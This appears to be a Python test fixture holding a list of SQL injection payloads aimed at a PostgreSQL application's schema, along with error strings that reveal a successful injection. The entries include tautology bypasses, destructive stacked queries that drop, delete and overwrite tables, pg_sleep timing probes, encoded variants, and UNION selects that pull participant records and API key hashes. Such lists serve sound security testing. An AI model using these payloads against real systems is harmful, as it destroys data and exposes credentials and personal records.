"""Classic payloads; the last group is made for the names of this schema."""

WAIT_SECONDS = 8
# What a payload that works would bring to light.
STOLEN = ["PostgreSQL 1", "pg_catalog", "unterminated", "syntax error"]

PAYLOADS = [
    "'",
    "''",
    '"',
    "`",
    "\\'",
    "' OR '1'='1",
    "' OR 1=1 --",
    "' OR 1=1#",
    "' OR ''='",
    "nord' OR '1'='1",
    "') OR ('1'='1",
    "')) OR 1=1 --",
    '" OR ""="',
    "1 OR 1=1",
    "1; DROP TABLE teams --",
    "'; DROP TABLE pooled; --",
    "'; DELETE FROM microaggregates; --",
    "'; UPDATE teams SET name = 'owned'; --",
    "'; SELECT pg_sleep(9); --",
    "' || (SELECT pg_sleep(9)) || '",
    "' AND 1=CAST(version() AS int) --",
    "' UNION SELECT version() --",
    "' UNION SELECT NULL, NULL, NULL --",
    "$$; SELECT 1; $$",
    "%27%20OR%201=1--",
    "\uff07 OR 1=1 --",
    "nord'/**/OR/**/1=1--",
    "{nord,firma}",
    "'}; SELECT '{",
    "$1",
    "%s",
    "' UNION SELECT id FROM teams --",
    "' UNION SELECT text FROM pooled --",
    "' UNION SELECT person_id FROM participations --",
    "' UNION SELECT text FROM published_texts --",
    "' UNION SELECT encode(hash, 'hex') FROM api_keys --",
]
